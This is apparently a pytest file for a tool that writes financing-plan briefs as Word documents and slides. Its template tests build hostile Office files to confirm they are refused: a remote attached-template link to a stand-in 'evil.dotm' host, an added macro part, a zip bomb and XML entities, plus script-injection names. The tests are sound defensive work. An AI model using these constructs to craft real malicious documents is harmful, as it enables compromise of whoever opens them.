"""The brief as a Word document and as slides: the plan's numbers, any names, any template, the same bytes every time."""

import io
import json
import os
import sys
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from docx.shared import RGBColor
from pptx import Presentation
from pptx.util import Inches
from support.htmlpage import Page
from support.pages import HOSTILE, small, small_plan

from models.case import Case
from models.gaps import gaps
from models.plan import Plan
from models.risk_plan import RiskPlan
from optimizer.errors import Refusal
from optimizer.plan_folder.store import find, inputs_of
from optimizer.reports.brief import paper
from optimizer.reports.brief.content import Part, brief
from optimizer.reports.brief.paper import page_bytes
from optimizer.reports.brief.pictures import Picture, shown
from optimizer.reports.brief.render import brief_bytes, require
from optimizer.reports.brief.slides import slides_bytes
from optimizer.reports.brief.template import BadTemplate, read_template
from optimizer.reports.brief.word import word_bytes
from optimizer.reports.formatting import number
from optimizer.verification.briefs import _PIXEL, brief_differences
from optimizer.verification.opened import open_plan
from optimizer.verification.plan_checks import files

WRITERS: dict[str, Callable[..., bytes]] = {"docx": word_bytes, "pptx": slides_bytes}


def document_bytes(case: Case, form: str, template: bytes | None = None) -> bytes:
    plan = small_plan(case)
    pictures = [Picture("Over time", "What is met.", _PIXEL), Picture("Not drawn", "Nothing.", None)]
    return WRITERS[form](brief(case, plan, gaps(case, plan)), pictures, template)


def tables(form: str, data: bytes) -> list[list[list[str]]]:
    """Every table as rows of cells, spaces that do not break as plain ones."""
    if form == "docx":
        result = [[[c.text for c in row.cells] for row in t.rows] for t in Document(io.BytesIO(data)).tables]
    else:
        shapes = [s for slide in Presentation(io.BytesIO(data)).slides for s in slide.shapes if s.has_table]
        result = [[[c.text for c in row.cells] for row in s.table.rows] for s in shapes]
    return [[[cell.replace("\u00a0", " ") for cell in row] for row in table] for table in result]


def words(form: str, data: bytes) -> str:
    if form == "docx":
        return "\n".join(p.text for p in Document(io.BytesIO(data)).paragraphs).replace("\u00a0", " ")
    shapes = [s for slide in Presentation(io.BytesIO(data)).slides for s in slide.shapes if s.has_text_frame]
    return "\n".join(s.text_frame.text for s in shapes).replace("\u00a0", " ")


@pytest.fixture(scope="module", params=["docx", "pptx"])
def document(request: pytest.FixtureRequest) -> tuple[str, Case, Plan, bytes]:
    case = small()
    case = case.with_(settings=case.settings.model_copy(update={"title": "Options", "author": "A. P.", "draft": True}))
    return request.param, case, small_plan(case), document_bytes(case, request.param)


def test_tables_hold_the_numbers_of_plan_json(document: tuple[str, Case, Plan, bytes]) -> None:
    form, case, plan, data = document
    result = {row[0]: row[1:] for table in tables(form, data) for row in table}
    names = {p.id: p.name for p in case.projects}
    for f in plan.projects:
        row = result[names[f.id]]
        assert row[2] == str(f.fid_year)
        assert row[-3:] == [number(f.public_m), number(f.contingent_m) if f.contingent_m else "", number(f.private_m)]
    assert result["Public money"][0] == f"{number(sum(f.public_m for f in plan.projects))} M USD"
    assert result["Projects financed"][0] == f"{len(plan.projects)} of {len(plan.projects) + len(plan.not_financed)}"
    for c in brief(case, plan, gaps(case, plan)).cards:
        assert result[c.title][0].replace("→", "->") == c.change


def test_the_head_the_parts_and_a_missing_chart_are_reported(document: tuple[str, Case, Plan, bytes]) -> None:
    form, case, plan, data = document
    told, text = brief(case, plan, gaps(case, plan)), words(form, data)
    for wanted in ("Options", "A. P.", "DRAFT", told.fingerprint, "could not be drawn"):
        assert wanted in text
    for part in told.parts:
        assert part.title in text
        assert all(line.replace(" -> ", " → ") in text for line in part.lines)


def test_a_chain_says_what_is_delivered_and_what_is_short_of_feed(chain_plan: tuple[Case, Plan]) -> None:
    case, plan = chain_plan
    told = brief(case, plan, gaps(case, plan))
    data = word_bytes(told, [])
    result = {row[0]: row[1] for table in tables("docx", data) for row in table}
    assert {c.title: c.change for c in told.cards}.items() <= {
        k: v.replace("→", "->") for k, v in result.items()
    }.items()
    assert told.chain
    assert all(line.replace(" -> ", " → ") in words("docx", data) for line in told.chain)


def test_a_chain_is_reported_on_paper(chain_plan: tuple[Case, Plan]) -> None:
    case, plan = chain_plan
    told, page = brief(case, plan, gaps(case, plan)), Page(page_bytes(case, plan)).text
    assert told.chain
    assert all(line.replace(" -> ", " → ") in page.replace("\u00a0", " ") for line in told.chain)


@pytest.mark.parametrize("form", ["docx", "pptx"])
def test_a_plan_under_a_measure_of_risk_says_what_it_reaches(form: str) -> None:
    case = small()
    risk = RiskPlan(
        measure="cvar", value=0.3, bound=0.3, alpha=0.9, aversion=0.5, as_planned=0.4, expected=0.35, cvar=0.25, worst=0.2,
        contingency_m=None, scenarios=(), states=(),
    )  # fmt: skip
    told = brief(case, plan := small_plan(case).model_copy(update={"risk": risk}), gaps(case, plan))
    assert told.risk.lines
    text = words(form, WRITERS[form](told, []))
    for wanted in (told.risk.title, *told.risk.lines):
        assert wanted in text


def test_sentences_of_more_than_a_slide_are_spread_evenly() -> None:
    case = small()
    told = replace(
        brief(case, plan := small_plan(case), gaps(case, plan)), left_out=Part("Left out", ("A line.",) * 16)
    )
    titles = ("Left out", "Left out (continued)")
    slides = [
        [s.text_frame.text.split("\n") for s in slide.shapes if s.has_text_frame]
        for slide in Presentation(io.BytesIO(slides_bytes(told, []))).slides
    ]
    assert [words.count("A line.") for title, *rest in slides if title[0] in titles for words in rest[-1:]] == [8, 8]


def test_a_long_title_takes_one_line_of_the_margins() -> None:
    case = small()
    data = document_bytes(case.with_(settings=case.settings.model_copy(update={"title": "word " * 30})), "docx")
    (head,) = Document(io.BytesIO(data)).sections[0].header.paragraphs
    assert head.text.endswith("...")
    assert len(head.text) <= 90


def test_the_same_plan_gives_the_same_bytes_and_nothing_is_fetched(document: tuple[str, Case, Plan, bytes]) -> None:
    form, case, _, data = document
    assert document_bytes(case, form) == data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b'TargetMode="External"' not in b"".join(
            archive.read(n) for n in archive.namelist() if n.endswith(".rels")
        )
        assert not any("vba" in name.casefold() for name in archive.namelist())


@pytest.mark.parametrize("form", ["docx", "pptx"])
def test_hostile_names_are_only_words(form: str) -> None:
    case = small(HOSTILE)
    data = document_bytes(
        case.with_(settings=case.settings.model_copy(update={"title": HOSTILE[0], "agency": HOSTILE[3]})), form
    )
    text = " ".join(cell for table in tables(form, data) for row in table for cell in row)
    assert "<script>document.title" in text
    assert "a | b *bold* `code`" in text
    assert "\u202e" not in text + words(form, data)


# -- templates --------------------------------------------------------------------------------------------------------


def agency_document() -> bytes:
    template, stream = Document(), io.BytesIO()
    template.styles["Heading 1"].font.color.rgb = RGBColor(1, 2, 3)
    template.sections[0].header.paragraphs[0].text = "MINISTRY OF EXAMPLES"
    template.add_paragraph("Replace this text.")
    template.save(stream)
    return stream.getvalue()


def agency_slides() -> bytes:
    template, stream = Presentation(), io.BytesIO()
    template.slide_width = Inches(11)
    template.slides.add_slide(template.slide_layouts[0]).shapes.title.text = "Replace this slide"
    template.save(stream)
    return stream.getvalue()


AGENCY = {"docx": agency_document, "pptx": agency_slides}


@pytest.mark.parametrize("form", ["docx", "pptx"])
def test_a_template_gives_its_styles_and_not_its_text(form: str, tmp_path: Path) -> None:
    path = tmp_path / f"agency.{form}"
    path.write_bytes(AGENCY[form]())
    data = document_bytes(small(), form, read_template(path, form))
    assert "Replace this" not in words(form, data)
    if form == "docx":
        document = Document(io.BytesIO(data))
        assert document.styles["Heading 1"].font.color.rgb == RGBColor(1, 2, 3)
        head = [p.text for p in document.sections[0].header.paragraphs]
        assert head == ["MINISTRY OF EXAMPLES", "Financing plan: small"]
    else:
        assert Presentation(io.BytesIO(data)).slide_width == Inches(11)


def changed(data: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """An archive with one part changed, or added."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as given, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as other:
        for name in given.namelist():
            if name != part:
                other.writestr(name, given.read(name))
        other.writestr(part, change(given.read(part) if part in given.namelist() else b""))
    return stream.getvalue()


TYPES, RELS, BODY = "[Content_Types].xml", "word/_rels/document.xml.rels", "word/document.xml"
LINK = (
    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://example.invalid/evil.dotm" TargetMode="External"/></Relationships>'
)
BAD: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "no archive": (lambda _: b"hello", "is not a .docx file"),
    "cut": (lambda data: data[: len(data) // 2], "is not a .docx file"),
    "slides": (lambda _: agency_slides(), "is not a .docx file"),
    "macros": (lambda data: changed(data, "word/vbaProject.bin", lambda _: b"x"), "has macros"),
    "a bomb": (lambda data: changed(data, "word/media/zeros.bin", lambda _: bytes(129 << 20)), "unpacks to more than"),
    "entities": (lambda data: changed(data, BODY, lambda x: b'<!DOCTYPE a [<!ENTITY b "c">]>' + x[x.index(b"<w:"):]), "entities"),
    "a link": (lambda data: changed(data, RELS, lambda x: x.replace(b"</Relationships>", LINK)), "elsewhere"),
    "no types": (lambda data: changed(data, TYPES, lambda _: b"<Types/>"), "is not a .docx file"),
}  # fmt: skip


@pytest.mark.parametrize("kind", BAD)
def test_a_hostile_template_is_refused_with_its_name_and_the_reason(kind: str, tmp_path: Path) -> None:
    change, why = BAD[kind]
    path = tmp_path / "agency.docx"
    path.write_bytes(change(agency_document()))
    with pytest.raises(BadTemplate, match=why) as refusal:
        read_template(path, "docx")
    assert str(path) in str(refusal.value)


def test_a_dotx_is_taken_as_the_document_that_it_makes(tmp_path: Path) -> None:
    path = tmp_path / "agency.dotx"
    path.write_bytes(changed(agency_document(), TYPES, lambda x: x.replace(b"document.main+xml", b"template.main+xml")))
    assert words("docx", document_bytes(small(), "docx", read_template(path, "docx")))


# -- what is not there ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", ["docx", "pptx"])
def test_without_the_library_the_refusal_has_the_command(form: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, form, None)
    with pytest.raises(Refusal, match=r"pip install 'mine2magnet\[office\]'"):
        require(form)


def test_without_a_browser_the_refusal_names_other_ways(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(Refusal, match=r"print report\.html, or ask for docx"):
        brief_bytes(small(), small_plan(small()), "pdf")


@pytest.mark.skipif(sys.platform == "win32", reason="the browser of the test is a shell script")
def test_a_browser_that_hangs_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    (tmp_path / paper.BROWSERS[0]).write_text("#!/bin/sh\nexec sleep 60\n")
    (tmp_path / paper.BROWSERS[0]).chmod(0o755)
    monkeypatch.setenv("PATH", str(tmp_path), prepend=os.pathsep)
    monkeypatch.setattr(paper, "SECONDS", 0.2)
    with pytest.raises(Refusal, match=r"could not print the brief: print report\.html, or ask for docx"):
        brief_bytes(small(), small_plan(small()), "pdf")


# -- in a plan folder -------------------------------------------------------------------------------------------------


def test_a_brief_in_a_plan_folder_is_known_and_an_edited_one_is_reported(
    solved: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from support.commandline import mine2magnet

    monkeypatch.chdir(solved)
    plan = "drafted"
    done = mine2magnet("solve", "small.xlsx", "--out", plan, "--brief", "docx", "--draft", cwd=solved, check=0)
    place = solved / plan / "brief.docx"
    assert "brief.docx" not in done.stderr
    assert "DRAFT" in words("docx", place.read_bytes())
    folder = open_plan(find(plan))
    assert list(files(folder)) == []
    assert list(brief_differences(folder, lambda _: [])) == []
    again = mine2magnet("brief", plan, cwd=solved, check=2)
    assert "--force" in again.stderr
    told = mine2magnet("brief", plan, "--out", "shown.pptx", "--json", cwd=solved, check=0)
    assert json.loads(told.stdout) == {"written": "shown.pptx"}
    assert "DRAFT" in words("pptx", (solved / "shown.pptx").read_bytes())
    edited: Any = Document(str(place))
    edited.paragraphs[1].text = "My own title"
    edited.save(str(place))
    ((name, message),) = brief_differences(folder, lambda _: [])
    assert (name, message.certain) == ("brief.docx", False)
    assert "edited" in message.sentence
    assert list(files(folder)) == []
    wrong = mine2magnet("brief", plan, "--out", "x.docx", "--template", str(inputs_of(plan)[-1]), cwd=solved, check=3)
    assert "is not a .docx file" in wrong.stderr
    assert not (solved / "x.docx").exists()


def test_the_brief_shows_the_map_and_every_chart_of_the_plan() -> None:
    case = small()
    plan = small_plan(case)
    assert [figure.name for figure in shown(case, plan, gaps(case, plan))] == [
        "coverage", "map", "countries", "timeline", "money",
    ]  # fmt: skip
